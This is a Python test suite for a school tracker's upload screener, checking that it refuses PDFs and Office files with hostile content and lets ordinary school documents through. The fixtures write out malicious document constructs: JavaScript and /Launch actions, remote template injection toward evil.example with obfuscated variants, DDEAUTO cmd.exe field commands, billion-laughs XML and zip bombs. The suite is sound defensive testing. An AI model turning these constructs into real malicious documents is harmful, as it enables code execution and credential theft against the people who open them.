"""What comes from outside is looked through: what carries a program, hides something or grows is refused."""

from __future__ import annotations

import random
import resource
import subprocess
import sys
from pathlib import Path

import pytest

from tests.pictures import png
from tests.reading import attacks
from tests.reading.attacks import LAUGHS, field, inner, one_page, pdf, relation, stream, word, workbook
from tracker.config import ROOT
from tracker.errors import Refused
from tracker.reading import apart
from tracker.reading.school_plans import read_school_plan
from tracker.reading.screening import screen

URI = b"<< /S /URI /URI (https://evil.example/) >>"
JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
TEMPLATE = attacks.relation("attachedTemplate", "{}")
TYPES_WITH_MACROS = attacks.CONTENT_TYPES.replace("document.main", "document.macroEnabled.main")

PDFS = {
    "a program on opening": (one_page(b"/OpenAction " + JS), "carries a program"),
    "a program by its name": (one_page(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", b"", JS), "a program"),
    "a program on a page": (one_page(b"", b"/AA << /O 4 0 R >>", JS), "carries a program"),
    "a program in a packed object": (attacks.program_in_a_packed_object(), "carries a program"),
    "another program": (one_page(b"/OpenAction << /S /Launch /F (calc.exe) >>"), "starts other programs"),
    "a file in it": (
        one_page(
            b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
            b"",
            b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
            stream(b"MZ", b"/Type /EmbeddedFile"),
        ),
        "carries other files",
    ),
    "a form that runs": (
        one_page(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"", stream(b"<xdp/>")),
        "works by a program",
    ),
    "a form that sends": (
        one_page(b"/OpenAction << /S /SubmitForm /F (http://there.example/) >>"),
        "sends what is typed",
    ),
    "an address on opening": (one_page(b"/OpenAction " + URI), "opens something elsewhere by itself"),
    "an address on a page": (one_page(b"", b"/AA << /O 4 0 R >>", URI), "opens something elsewhere by itself"),
    "an address on closing": (one_page(b"/AA 4 0 R", b"", b"<< /WC 5 0 R >>", URI), "opens something elsewhere"),
    "an address after a page": (
        one_page(b"/OpenAction 4 0 R", b"", b"<< /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>", URI),
        "opens something elsewhere by itself",
    ),
    "an address by way of others": (
        one_page(b"/OpenAction 4 0 R", b"", b"<< /S 5 0 R /URI (//evil.example) >>", b"/U#52I"),
        "opens something elsewhere by itself",
    ),
    "a file of another machine": (
        one_page(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\x) /D [0 /Fit] >>"),
        "leads into another file",
    ),
    "a file in a file": (
        one_page(b"/OpenAction << /S /GoToE /F (//evil.example/x) /D [0 /Fit] >>"),
        "leads into another file",
    ),
    "another file at a click": (
        one_page(b"", b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (//evil.example/x) >> >>]"),
        "leads into another file",
    ),
    "an archive behind it": (one_page() + attacks.archive({"a.exe": "MZ"}), "something behind its end"),
    "an archive whose last words are those of a PDF": (
        one_page() + attacks.archive({"a.exe": "MZ"})[:-2] + b"\x17\0\nstartxref\n123456\n%%EOF\n",
        "something behind its end",
    ),
    "a page behind it": (one_page() + b"\n<script>alert(1)</script>", "something behind its end"),
    "100,000 pages": (attacks.many_pages(100_000), "has 100,000 pages, and 2,000 is the most"),
    "a page of a mile": (one_page(box=b"0 0 4600000 842"), "more than five metres, page 1"),
    "a page that unpacks": (attacks.packed_page(400), "unpacks to far more"),
    "a page packed twice": (attacks.packed_page(2, twice=True), "unpacks to far more"),
    "locked": (
        pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [] /Count 0 >>",
                b"<< /Filter /Standard /V 1 /R 2 /O (%s) /U (%s) /P -4 >>" % (b"o" * 32, b"u" * 32),
            ]
        ).replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 3 0 R /ID [(a)(a)]"),
        "locked with a password",
    ),
    "no PDF": (b"%PDF-1.7 and nothing more", "damaged"),
}
DOCUMENTS = {
    "macros renamed": (word(word__vbaProject_bin=b"\xd0\xcf\x11\xe0"), "carries macros"),
    "macros by their type": (word(types=TYPES_WITH_MACROS), "carries macros"),
    "macros of Excel 4": (workbook(xl__macrosheets__sheet1_xml="<x/>"), "carries macros"),
    "a control": (word(word__activeX__activeX1_xml="<x/>"), "carries an object of another program"),
    "an object": (word(word__embeddings__oleObject1_bin=b"\xd0\xcf\x11\xe0"), r"oleObject1\.bin"),
    "a program in it": (word(word__media__setup_exe=b"MZ"), r"no part of a document \(setup\.exe\)"),
    "a program called a picture": (word(word__media__image1_png=b"MZ\x90\0" + bytes(60)), r"\(image1\.png\)"),
    "macros inside a table inside": (
        word(word__embeddings__Sheet1_xlsx=workbook(xl__vbaProject_bin=b"x")),
        "carries macros",
    ),
    "a way out of the folder": (word(**{"____..__..__x_xml": "<x/>"}), "written outside its folder"),
    "a template from the web": (
        word(word___rels__settings_xml_rels=TEMPLATE.format("https://there.example/t.dotm")),
        "fetches a part of itself",
    ),
    "a template of another machine": (
        word(word___rels__settings_xml_rels=TEMPLATE.format("file://evil/t.dotm")),
        "fetches a part of itself",
    ),
    "a template of a share": (
        word(word___rels__settings_xml_rels=TEMPLATE.format("\\\\evil\\share\\t.dotm")),
        "fetches a part of itself",
    ),
    "a template in single quotes": (
        word(word___rels__settings_xml_rels=TEMPLATE.format("http://evil.example/t.dotm").replace('"', "'")),
        "fetches a part of itself",
    ),
    "a template spelt in numbers": (
        word(word___rels__settings_xml_rels=TEMPLATE.format("&#104;ttp://evil.example/t.dotm")),
        "fetches a part of itself",
    ),
    "a template with spaces": (
        word(word___rels__settings_xml_rels=TEMPLATE.format("http://evil.example/t.dotm").replace("=", " = ")),
        "fetches a part of itself",
    ),
    "a template in UTF-16": (
        word(word___rels__settings_xml_rels=TEMPLATE.format("http://evil.example/t.dotm").encode("utf-16")),
        "fetches a part of itself",
    ),
    "a template that is said to be in it": (
        word(word___rels__settings_xml_rels=relation("attachedTemplate", "//evil.example/t.dotm", "Internal")),
        "fetches a part of itself",
    ),
    **{
        f"a template at {target}": (
            word(word___rels__settings_xml_rels=TEMPLATE.format(target)),
            "fetches a part of itself",
        )
        for target in (
            "file:////evil/Plan.dotx",
            "file:///S:\\\\evil\\Plan.dotx",
            "S:\\?\\UNC\\evil\\Plan.dotx",
            "file:///%5C%5Cevil/Plan.dotx",
            "/\\evil\\Plan.dotx",
        )
    },
    **{
        f"its {kind} elsewhere": (
            word(word___rels__document_xml_rels=relation(kind, "file://evil/x")),
            "fetches a part of itself",
        )
        for kind in ("frame", "subDocument", "oleObject", "image", "externalLinkPath", "aFChunk", "mailMergeSource")
    },
    "relations that no program can read": (
        word(word___rels__settings_xml_rels="<Relationships><Relationship"),
        "damaged",
    ),
    "a command in two runs": (word(field("D", "DEAUTO c:\\cmd.exe")), "gives commands"),
    "a command in two runs of no field": (
        word("<w:p><w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DEAUTO c</w:instrText></w:r></w:p>"),
        "gives commands",
    ),
    "a command whose field has no end": (
        word(field("D", "DEAUTO c").replace("separate", "x").replace('"end"', '"x"')),
        "gives commands",
    ),
    "a command in a simple field": (word("<w:p><w:fldSimple w:instr = ' dde&#65;UTO c'/></w:p>"), "gives commands"),
    "a command that another field spells": (
        word(field(inner(field("QUOTE 68 68 69 65 85 84 79")), " c:\\cmd.exe")),
        "gives commands",
    ),
    "a command in UTF-16": (
        word(word__header1_xml=attacks.WORDS.format(field("DDEAUTO c")).encode("utf-16")),
        "gives commands",
    ),
    "a command of a workbook in UTF-16": (
        workbook(xl__externalLinks__externalLink1_xml="<x:e><x:ddeLink ddeService='cmd'/></x:e>".encode("utf-16")),
        "gives commands",
    ),
    "macros by their type in UTF-16": (word(types=TYPES_WITH_MACROS.encode("utf-16")), "carries macros"),
    "a picture of another machine": (
        word(field("INCLUDE", 'PICTURE "http://evil.example/x.png"')),
        "fetches a part of itself",
    ),
    "a text of a share": (word(field('INCLUDETEXT "\\\\\\\\evil\\\\x.docx"')), "fetches a part of itself"),
    "a text whose place another field says": (
        word(field("INCLUDETEXT ", inner(field('QUOTE "http://evil.example/x"')))),
        "fetches a part of itself",
    ),
    "150 MB of one letter": (attacks.xml_of_one_letter(150), "unpacks to far more"),
    "150 MB of one letter beside a large picture": (
        word(word__styles_xml=b" " * (150 << 20), word__media__image1_png=random.Random(1).randbytes(4 << 20)),
        "unpacks to far more",
    ),
    "a command": (word("<w:p><w:r><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:r></w:p>"), "gives commands"),
    "a billion laughs": (word("<w:p>&j;</w:p>", LAUGHS), "defines words of its own"),
    "a billion laughs in UTF-16": (
        word(word__styles_xml=("\ufeff" + LAUGHS + "<d>&j;</d>").encode("utf-16-le")),
        "defines words of its own",
    ),
    "a billion laughs in a workbook": (workbook("<row/>", LAUGHS), "defines words of its own"),
    "zeros": (attacks.bomb_of_zeros(), "unpacks to far more"),
    "parts over each other": (attacks.parts_over_each_other(bytes(1 << 20), 100), "unpacks to far more"),
    "4,001 parts": (word(**{f"word__media__{number}_xml": "" for number in range(4001)}), "unpacks to far more"),
    "a password": (attacks.with_a_password(word()), "locked with a password"),
    "cut off": (word()[:-30], "damaged"),
}


@pytest.mark.parametrize(("content", "sentence"), PDFS.values(), ids=PDFS.keys())
def test_a_pdf_that_carries_something_is_refused_with_what_would_be_right(content: bytes, sentence: str) -> None:
    with pytest.raises(Refused, match=rf"^minutes\.pdf .*{sentence}") as refusal:
        screen(content, "minutes.pdf")
    assert str(refusal.value).endswith(".")


@pytest.mark.parametrize(("content", "sentence"), DOCUMENTS.values(), ids=DOCUMENTS.keys())
def test_an_office_document_that_carries_something_is_refused(content: bytes, sentence: str) -> None:
    with pytest.raises(Refused, match=rf"^plan\.docx .*{sentence}"):
        screen(content, "plan.docx")


ORDINARY = {
    "opens at a page": one_page(b"/OpenAction [3 0 R /Fit]"),
    "opens at a page by an action": one_page(b"/OpenAction 4 0 R", b"", b"<< /S /GoTo /D [3 0 R /XYZ 0 842 0] >>"),
    "link": one_page(b"", b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A " + URI + b" >>]"),
    "opens at a page with a link": one_page(
        b"/OpenAction [3 0 R /Fit] /AA << /WP << /S /GoTo /D [3 0 R /Fit] >> >>",
        b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A " + URI + b" >>]",
    ),
    "large": attacks.packed_page(100),
    "saved twice": one_page() + one_page()[9:],
    "ends in blank lines": one_page() + b"\r\n\r\n" + bytes(512),
    **{
        f"template at {target}": word(word___rels__settings_xml_rels=TEMPLATE.format(target))
        for target in ("file:///S:\\Templates\\Plan.dotx", "file:///C:/Our%20templates/Plan.dotx", "Plan.dotx")
    },
    "words": word("<w:p><w:r><w:t>=cmd, DDEAUTO</w:t><w:instrText>PAGE</w:instrText></w:r></w:p>"),
    "fields": word(
        field(" TOC \\o ", '"1-3" \\h', result=inner(field("PAGEREF _Toc1 \\h")))
        + field('HYPERLINK "https://school.example"')
        + field('INCLUDEPICTURE "C:\\\\Pictures\\\\crest.png" \\* MERGEFORMAT')
        + "<w:p><w:fldSimple w:instr=' PAGE '/></w:p>"
    ),
    "chart": word(word__embeddings__Sheet1_xlsx=workbook(), word__media__image1_png=png()),
    "link of a document": word(word___rels__document_xml_rels=relation("hyperlink", "https://school.example/policy")),
    "old drawing": workbook(xl__drawings__vmlDrawing1_vml="<xml><div>One<br>two</div></xml>"),
    "empty part": word(customXml__item1_xml=""),
    "20,000 equal rows": workbook(
        "".join(
            f'<row r="{row}">' + "".join(f'<c r="{column}{row}"><v>1</v></c>' for column in "ABCDEFGHIJ") + "</row>"
            for row in range(1, 20_001)
        )
    ),
    "5,000 equal paragraphs": word("<w:p><w:r><w:t>The governors looked at this.</w:t></w:r></w:p>" * 5000),
    "printer": workbook(xl__printerSettings__printerSettings1_bin=b"\0\1"),
    "text": b"Eight of ten could explain it.",
    "archive": attacks.archive({"notes.txt": "no document"}),
}


@pytest.mark.parametrize("content", ORDINARY.values(), ids=ORDINARY.keys())
def test_what_schools_write_every_day_passes(content: bytes) -> None:
    screen(content, "paper")


def test_a_reader_says_itself_what_it_cannot_open() -> None:
    for content in (PDFS["no PDF"][0], PDFS["100,000 pages"][0], DOCUMENTS["a password"][0]):
        screen(content, "card.pdf", is_read=True)
    with pytest.raises(Refused, match="carries a program"):
        screen(PDFS["a program on opening"][0], "card.pdf", is_read=True)


# ---------------------------------------------------------------- the limits hold, by the system's own count


def test_looking_through_any_of_them_stays_within_the_limits_of_its_process() -> None:
    """The largest of those children took less memory than it may have, and each came to its end by itself."""
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    for content in (PDFS["a page that unpacks"][0], PDFS["100,000 pages"][0], DOCUMENTS["zeros"][0]):
        assert apart.run_apart("dangers", content).get("error") is None
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    assert after.ru_maxrss <= max(before.ru_maxrss, apart.MEGABYTES << 10)
    assert after.ru_utime - before.ru_utime < 3 * apart.SECONDS


@pytest.mark.parametrize(
    ("doing", "limit"),
    [
        ("bytearray(2 << 30)", "memory"),
        ("any(False for _ in iter(int, 1))", "time"),
        ("open('left behind', 'wb', 0).write(b'x')", "files"),
    ],
)
def test_a_process_that_looks_through_files_has_its_limits(doing: str, limit: str, tmp_path: Path) -> None:
    program = (
        f"import sys, os; sys.path.append(os.getcwd()); os.chdir({str(tmp_path)!r});"
        f" from tracker.reading.limits import within_limits; within_limits(lambda *_: {{'done': {doing}}})"
    )
    command = [sys.executable, "-c", program, "300", "1"]
    done = subprocess.run(command, input=b"", capture_output=True, timeout=60, check=False, cwd=ROOT)
    assert done.returncode != 0, limit
    assert b"done" not in done.stdout


@pytest.mark.parametrize("name", ["a billion laughs", "zeros", "parts over each other", "a password", "cut off"])
def test_a_plan_that_is_an_attack_is_refused_by_its_reader_too(name: str) -> None:
    with pytest.raises(Refused):
        read_school_plan(DOCUMENTS[name][0], "plan.docx")
